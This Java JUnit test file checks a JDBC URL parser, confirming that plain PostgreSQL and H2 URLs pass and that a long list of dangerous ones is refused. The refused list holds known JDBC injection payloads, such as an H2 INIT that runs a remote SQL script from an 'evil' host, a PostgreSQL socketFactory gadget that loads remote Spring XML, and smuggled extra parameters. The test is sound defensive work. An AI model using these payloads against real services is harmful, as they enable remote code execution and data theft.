package dev.countersign.worker.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.countersign.worker.connector.OrderRefusedException;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db.example.com/crm",
                "jdbc:postgresql://db.example.com:5433/crm?sslmode=verify-full&currentSchema=sales",
                "jdbc:h2:mem:crm",
                "jdbc:h2:mem:crm;DB_CLOSE_DELAY=-1;MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE",
                "jdbc:h2:file:/var/lib/countersign/crm"
            })
    void aPlainUrlPasses(String url) {
        assertThat(JdbcUrl.parse(url).url()).isEqualTo(url);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:mysql://db/crm",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;init=DROP",
                "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3",
                "jdbc:h2:mem:x;AUTO_SERVER=TRUE",
                "jdbc:h2:mem:x;MODE=MySQL\\;INIT=x",
                "jdbc:h2:tcp://evil/x",
                "jdbc:h2:ssl://evil/x",
                "jdbc:h2:zip:/tmp/x.zip!/x",
                "jdbc:h2:mem:x?INIT=x",
                "jdbc:h2:nio:/tmp/x",
                "jdbc:postgresql://db/crm?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http%3A%2F%2Fevil",
                "jdbc:postgresql://db/crm?socketFactory=x.Y",
                "jdbc:postgresql://db/crm?sslfactory=x.Y",
                "jdbc:postgresql://db/crm?loggerFile=x",
                "jdbc:postgresql://db/crm?user=x",
                "jdbc:postgresql://db/crm?password=x",
                "jdbc:postgresql://db/crm?authenticationPluginClassName=x.Y",
                "jdbc:postgresql://db/crm?stringtype=varchar",
                "jdbc:postgresql://user:secret@db/crm",
                "jdbc:postgresql://a,b/crm",
                "jdbc:postgresql:crm",
                "jdbc:postgresql://db/crm?sslmode=disable;DROP",
                "jdbc:postgresql://db/crm/../x",
                "JDBC:H2:mem:x",
                " jdbc:h2:mem:x",
                ""
            })
    void aUrlThatCouldLoadOrRunSomethingIsRefused(String url) {
        assertThatThrownBy(() -> JdbcUrl.parse(url))
                .isInstanceOf(OrderRefusedException.class)
                .hasMessageNotContaining("secret");
    }
}
